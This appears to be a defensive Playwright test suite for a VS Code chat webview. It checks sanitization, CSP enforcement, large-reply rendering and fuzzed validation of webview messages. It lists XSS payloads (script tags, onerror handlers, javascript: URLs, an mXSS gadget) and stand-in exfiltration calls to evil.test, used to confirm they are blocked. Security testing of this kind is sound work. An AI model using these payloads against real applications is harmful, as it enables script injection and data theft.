// The chat webview treats model output and everything it is sent as untrusted, and the extension
// treats everything the webview posts as untrusted. In headless Chromium (the real bundle in the
// real HTML and CSP, like test/webview/chat.test.ts) this checks that:
//  - hostile model output streamed in pieces (tags split across deltas), and hostile text in every
//    other host field (labels, errors), renders as inert text: nothing runs, no active element,
//    no handler attribute, no script URL;
//  - the CSP is present, strict, and enforced: even markup that got past the sanitizer cannot run
//    inline script or handlers, load frames, images or fetches from elsewhere;
//  - a 1 MB streamed reply renders completely without a page error;
// and, without a browser, that the host-side validator rejects every malformed message in a
// large random sample and accepts only exact, bounded shapes.
import * as assert from 'assert';
import { execFileSync } from 'child_process';
import * as fs from 'fs';
import * as path from 'path';
import { Browser, chromium, Page } from 'playwright-core';
import { chatHtml } from '../../src/extension/chat-html';
import { validateWebviewMessage } from '../../src/extension/webview-messages';
import { HostMessage, WebviewLimits } from '../../src/protocol/webview';

const repoRoot = path.resolve(__dirname, '..', '..', '..');
const chromiumPath = '/usr/bin/chromium';
const origin = 'https://webview.test';

/** Each sets window.__pwned to its own number if it ever runs. */
const HOSTILE = [
  '<script>window.__pwned = 1</script>',
  '<img src="x" onerror="window.__pwned = 2">',
  '<iframe src="javascript:window.__pwned = 3"></iframe>',
  '<iframe srcdoc="<script>parent.__pwned = 4</script>"></iframe>',
  '[link](javascript:window.__pwned=5)',
  '[link](JaVaScRiPt:window.__pwned=6)',
  '[link](vbscript:msgbox(7))',
  '<a href="javascript:window.__pwned=8">a</a>',
  '<svg><script>window.__pwned = 9</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=10">',
  '<object data="javascript:window.__pwned=11"></object>',
  '<embed src="javascript:window.__pwned=12">',
  '<form action="javascript:window.__pwned=13"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=14">',
  '<base href="javascript:window.__pwned=15//">',
  '<details open ontoggle="window.__pwned=16">x</details>',
  '![img](x" onerror="window.__pwned=17)',
  '<style>@import "https://evil.test/x.css";</style>',
];

describe('webview security (headless Chromium)', function () {
  this.timeout(120_000);
  let browser: Browser | undefined;
  let page: Page;
  let pageErrors: string[] = [];
  let foreignRequests: string[] = [];

  before(async function () {
    // npm test installs chromium first (scripts/ensure-test-deps.sh), so a missing one is a
    // broken set-up to report, not a reason to skip.
    if (!fs.existsSync(chromiumPath)) {
      throw new Error(`${chromiumPath} is not installed: run scripts/ensure-test-deps.sh full (as root) or apt-get install -y chromium`);
    }
    execFileSync(process.execPath, [path.join(repoRoot, 'scripts/build-bundles.mjs'), 'webview'], { stdio: 'pipe' });
    browser = await chromium.launch({
      executablePath: chromiumPath,
      args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--no-first-run'],
    });
  });

  after(async () => {
    await browser?.close();
  });

  beforeEach(async () => {
    pageErrors = [];
    foreignRequests = [];
    page = await browser!.newPage({ viewport: { width: 420, height: 720 } });
    page.on('pageerror', (e) => pageErrors.push(e.message));
    const html = chatHtml({ cspSource: origin, scriptUri: `${origin}/chat.js`, styleUri: `${origin}/chat.css`, nonce: 'c2VjdXJpdHktdGVzdA==' });
    await page.route('**/*', async (route) => {
      const url = new URL(route.request().url());
      if (url.origin !== origin) {
        // Reaching here means the CSP let the request out; the test fails on it below.
        foreignRequests.push(url.href);
        return route.abort();
      }
      if (url.pathname === '/') return route.fulfill({ contentType: 'text/html', body: html });
      const file = path.join(repoRoot, 'dist/webview', path.basename(url.pathname));
      if (!fs.existsSync(file)) return route.fulfill({ status: 404, body: 'not found' });
      return route.fulfill({ contentType: file.endsWith('.css') ? 'text/css' : 'text/javascript', body: fs.readFileSync(file) });
    });
    await page.addInitScript(() => {
      const w = window as unknown as { __posted: unknown[]; __violations: string[]; acquireVsCodeApi: () => unknown };
      w.__posted = [];
      w.__violations = [];
      document.addEventListener('securitypolicyviolation', (e) => w.__violations.push(e.effectiveDirective));
      let state: unknown;
      w.acquireVsCodeApi = () => ({
        postMessage: (m: unknown) => w.__posted.push(JSON.parse(JSON.stringify(m))),
        getState: () => state,
        setState: (s: unknown) => (state = s),
      });
    });
    await page.goto(`${origin}/`);
    await page.waitForFunction(() => (window as unknown as { __posted: { type: string }[] }).__posted.some((m) => m.type === 'ready'));
  });

  afterEach(async () => {
    await page.close();
    assert.deepStrictEqual(pageErrors, [], `the page threw: ${pageErrors.join('\n')}`);
    assert.deepStrictEqual(foreignRequests, [], 'a request to another origin got past the CSP');
  });

  const hostSend = (m: HostMessage) => page.evaluate((msg) => window.postMessage(msg, '*'), m);

  /** What an attacker would want to find in the conversation area. */
  const inspect = () =>
    page.evaluate(() => {
      const all = Array.from(document.body.querySelectorAll('*'));
      const inMessages = Array.from(document.getElementById('messages')!.querySelectorAll('*'));
      return {
        pwned: (window as unknown as { __pwned?: number }).__pwned,
        active: inMessages.filter((el) => /^(SCRIPT|IFRAME|OBJECT|EMBED|FORM|META|BASE|STYLE|IMG|SVG|MATH)$/i.test(el.tagName)).length,
        handlers: all.filter((el) => Array.from(el.attributes).some((a) => a.name.toLowerCase().startsWith('on'))).length,
        scriptUrls: all.filter((el) =>
          ['href', 'src', 'action', 'data', 'formaction', 'xlink:href'].some((a) => /^\s*(javascript|vbscript|data):/i.test(el.getAttribute(a) ?? '')),
        ).length,
        text: document.getElementById('messages')!.textContent ?? '',
        header: document.getElementById('status')!.textContent ?? '',
        contextLabel: document.getElementById('context-label')!.textContent ?? '',
      };
    });

  it('streams hostile model output, split inside tags, as inert text', async () => {
    await hostSend({ type: 'state', messages: [], busy: true, modelLabel: 'm', contextLabel: null });
    await hostSend({ type: 'append', message: { id: 'a1', role: 'assistant', text: '', streaming: true } });
    const reply = HOSTILE.join('\n\n');
    // Cut every 7 characters so no tag ever arrives whole in one delta.
    for (let i = 0; i < reply.length; i += 7) await hostSend({ type: 'delta', id: 'a1', text: reply.slice(i, i + 7) });
    await hostSend({ type: 'done', id: 'a1', stats: { generatedTokens: 100, tokensPerSecond: 10 } });
    for (const link of await page.locator('#messages a').all()) await link.click({ timeout: 1000 }).catch(() => undefined);
    await page.waitForTimeout(300);
    const r = await inspect();
    assert.strictEqual(r.pwned, undefined, 'injected code ran');
    assert.strictEqual(r.active, 0, 'an active element was created from model output');
    assert.strictEqual(r.handlers, 0, 'an event handler attribute survived');
    assert.strictEqual(r.scriptUrls, 0, 'a javascript:/vbscript:/data: URL survived');
    // Rendered, as text: the payloads the markdown renderer shows literally are all there.
    for (const literal of [
      '<script>window.__pwned = 1</script>',
      '<iframe src="javascript:window.__pwned = 3"></iframe>',
      '<embed src="javascript:window.__pwned=12">',
    ]) {
      assert.ok(r.text.includes(literal), `"${literal}" should be shown as text`);
    }
  });

  it('shows hostile text in labels, errors and user messages as text', async () => {
    const evil = '<img src=x onerror="window.__pwned=20"><script>window.__pwned=21</script>';
    await hostSend({
      type: 'state',
      messages: [{ id: 'u1', role: 'user', text: evil, contextLabel: evil }],
      busy: false,
      modelLabel: evil,
      contextLabel: evil,
    });
    await hostSend({ type: 'status', ready: false, label: evil });
    await hostSend({ type: 'context', label: evil });
    await hostSend({ type: 'append', message: { id: 'a1', role: 'assistant', text: 'x', streaming: true } });
    await hostSend({ type: 'done', id: 'a1', error: evil });
    await page.waitForTimeout(200);
    const r = await inspect();
    assert.strictEqual(r.pwned, undefined);
    assert.strictEqual(r.active, 0);
    assert.strictEqual(r.handlers, 0);
    assert.ok(r.header.includes(evil), `the status line shows the label as text: ${r.header}`);
    assert.strictEqual(r.contextLabel, evil);
    assert.ok(r.text.split(evil).length - 1 >= 2, 'the user message and the error are shown as text');
  });

  it('has a strict CSP that blocks what a sanitizer bypass would try', async () => {
    const csp = await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '');
    const directives = new Map(
      csp
        .split(';')
        .map((d) => d.trim().split(/\s+/))
        .map(([k, ...v]) => [k, v]),
    );
    assert.deepStrictEqual(directives.get('default-src'), ["'none'"]);
    assert.deepStrictEqual(directives.get('script-src'), ["'nonce-c2VjdXJpdHktdGVzdA=='"], 'scripts only with the nonce');
    for (const d of ['connect-src', 'frame-src', 'object-src', 'form-action', 'base-uri']) assert.deepStrictEqual(directives.get(d), ["'none'"], d);
    assert.ok(!/unsafe-inline|unsafe-eval|\*|https?:\/\/(?!webview\.test)/.test(csp), `nothing loose in: ${csp}`);

    // Markup placed straight into the DOM, as if it had slipped past DOMPurify.
    await page.evaluate(() => {
      const host = document.getElementById('messages')!;
      host.insertAdjacentHTML(
        'beforeend',
        '<img src="https://evil.test/p.png"><iframe src="https://evil.test/"></iframe><div onclick="window.__pwned=30">x</div>',
      );
      const s = document.createElement('script');
      s.textContent = 'window.__pwned = 31';
      host.appendChild(s);
      (host.lastElementChild!.previousElementSibling as HTMLElement).click();
      void fetch('https://evil.test/exfiltrate').catch(() => undefined);
      // Code from a string, run later by the page itself. (eval() inside page.evaluate would
      // prove nothing: DevTools evaluation is exempt from the page's CSP.)
      (window.setTimeout as unknown as (code: string, ms: number) => number)('window.__pwned = 32', 0);
    });
    await page.waitForTimeout(500);
    const result = await page.evaluate(() => ({
      pwned: (window as unknown as { __pwned?: number }).__pwned,
      violations: (window as unknown as { __violations: string[] }).__violations,
    }));
    assert.strictEqual(result.pwned, undefined, 'inline script, handler or eval ran');
    for (const d of ['img-src', 'frame-src', 'script-src-elem', 'script-src-attr', 'connect-src', 'script-src']) {
      assert.ok(result.violations.includes(d), `no ${d} violation recorded (got ${result.violations.join(', ')})`);
    }
  });

  it('renders a 1 MB streamed reply completely, without a page error', async () => {
    await hostSend({ type: 'state', messages: [], busy: true, modelLabel: 'm', contextLabel: null });
    await hostSend({ type: 'append', message: { id: 'a1', role: 'assistant', text: '', streaming: true } });
    const chunk = 'Some prose with `code` and <b>tags</b> and [links](javascript:x). '.repeat(16) + '\n\n';
    let sent = 0;
    const started = Date.now();
    let deltas = 0;
    while (sent < 1 << 20) {
      // Many deltas are batched into one postMessage round trip to keep the test quick.
      const batch: HostMessage[] = [];
      for (let i = 0; i < 64 && sent < 1 << 20; i++, sent += chunk.length) batch.push({ type: 'delta', id: 'a1', text: chunk });
      deltas += batch.length;
      await page.evaluate((ms) => ms.forEach((m) => window.postMessage(m, '*')), batch);
    }
    await hostSend({ type: 'done', id: 'a1' });
    await page.waitForFunction((n) => (document.getElementById('messages')!.textContent ?? '').length >= n, sent * 0.9, { timeout: 60_000 });
    const elapsed = Date.now() - started;
    const r = await inspect();
    assert.ok(deltas > 500, `${deltas} deltas`);
    assert.ok(r.text.length >= sent * 0.9, `rendered ${r.text.length} of ${sent} characters`);
    assert.strictEqual(r.active + r.handlers + r.scriptUrls, 0);
    assert.ok(elapsed < 60_000, `1 MB took ${elapsed} ms`);
    await page.locator('#prompt').fill('still responsive');
    assert.strictEqual(await page.locator('#prompt').inputValue(), 'still responsive');
  });

  it('posts only messages the host validator accepts', async () => {
    await hostSend({ type: 'state', messages: [{ id: 'a1', role: 'assistant', text: '```js\nx()\n```' }], busy: false, modelLabel: 'm', contextLabel: null });
    const bar = page.locator('article[data-id="a1"] .code-toolbar');
    for (const action of ['copy', 'insert', 'apply']) await bar.locator(`button[data-action="${action}"]`).click();
    await page.locator('#prompt').fill('hello');
    await page.locator('#send').click();
    const posted = await page.evaluate(() => (window as unknown as { __posted: unknown[] }).__posted);
    assert.ok(posted.length >= 5, `the page posted ${posted.length} messages`);
    for (const m of posted) assert.ok(validateWebviewMessage(m).ok, `the host would reject the page's own ${JSON.stringify(m)}`);
  });
});

describe('webview message validation under random malformed input', function () {
  // A deterministic generator of arbitrary JSON-like values (what structured clone can deliver).
  function rng(seed: number): () => number {
    let s = seed >>> 0;
    return () => (s = (s * 1664525 + 1013904223) >>> 0) / 2 ** 32;
  }
  const TYPES = [
    'ready',
    'send',
    'stop',
    'regenerate',
    'newChat',
    'copy',
    'insert',
    'apply',
    'runCommand',
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    '',
    'SEND',
  ];
  const OVERSIZED = 'y'.repeat(WebviewLimits.maxCodeChars + 1);
  const FIELDS = ['text', 'code', 'includeContext', 'path', 'command', '__proto__', 'type'];

  function value(r: () => number, depth: number): unknown {
    switch (Math.floor(r() * 10)) {
      case 0:
        return null;
      case 1:
        return undefined;
      case 2:
        return r() < 0.5;
      case 3:
        return [NaN, Infinity, -1, 0, 1e308, 2 ** 53][Math.floor(r() * 6)];
      case 4:
        return '';
      case 5:
        return 'x'.repeat(Math.floor(r() * 50));
      case 6:
        return OVERSIZED;
      case 7:
        return depth > 2 ? {} : [value(r, depth + 1), value(r, depth + 1)];
      case 8:
        return depth > 2 ? [] : message(r, depth + 1);
      default:
        return TYPES[Math.floor(r() * TYPES.length)];
    }
  }
  function message(r: () => number, depth: number): Record<string, unknown> {
    const m: Record<string, unknown> = {};
    if (r() < 0.9) m.type = r() < 0.8 ? TYPES[Math.floor(r() * TYPES.length)] : value(r, depth);
    for (let i = Math.floor(r() * 4); i > 0; i--) m[FIELDS[Math.floor(r() * FIELDS.length)]] = value(r, depth);
    return m;
  }

  /** The exact shapes the host may act on. */
  function isWellFormed(m: Record<string, unknown>): boolean {
    const str = (v: unknown, max: number, empty: boolean) => typeof v === 'string' && v.length <= max && (empty || v.trim() !== '');
    switch (m.type) {
      case 'ready':
      case 'stop':
      case 'regenerate':
      case 'newChat':
        return true;
      case 'send':
        return str(m.text, WebviewLimits.maxPromptChars, false) && typeof m.includeContext === 'boolean';
      case 'copy':
        return str(m.text, WebviewLimits.maxCodeChars, true);
      case 'insert':
      case 'apply':
        return str(m.code, WebviewLimits.maxCodeChars, true);
      default:
        return false;
    }
  }

  it('accepts exactly the well-formed messages among 20,000 random ones, and never throws', function () {
    const r = rng(2024);
    let accepted = 0;
    let rejected = 0;
    for (let i = 0; i < 20_000; i++) {
      const raw = r() < 0.1 ? value(r, 0) : message(r, 0);
      const result = validateWebviewMessage(raw);
      const expected = typeof raw === 'object' && raw !== null && !Array.isArray(raw) && isWellFormed(raw as Record<string, unknown>);
      if (result.ok !== expected) assert.fail(`verdict ${result.ok} for ${JSON.stringify(raw)?.slice(0, 200)}`);
      if (result.ok) {
        accepted++;
        // Only the schema's own fields come through.
        const allowed = new Set(['type', 'text', 'code', 'includeContext']);
        for (const k of Object.keys(result.message)) assert.ok(allowed.has(k), `field ${k} leaked through`);
      } else {
        rejected++;
        assert.ok(result.error.length > 0 && result.error.length < 300, `error message: ${result.error}`);
      }
    }
    assert.ok(accepted > 500 && rejected > 5000, `accepted ${accepted}, rejected ${rejected}: the sample must exercise both`);
  });
});
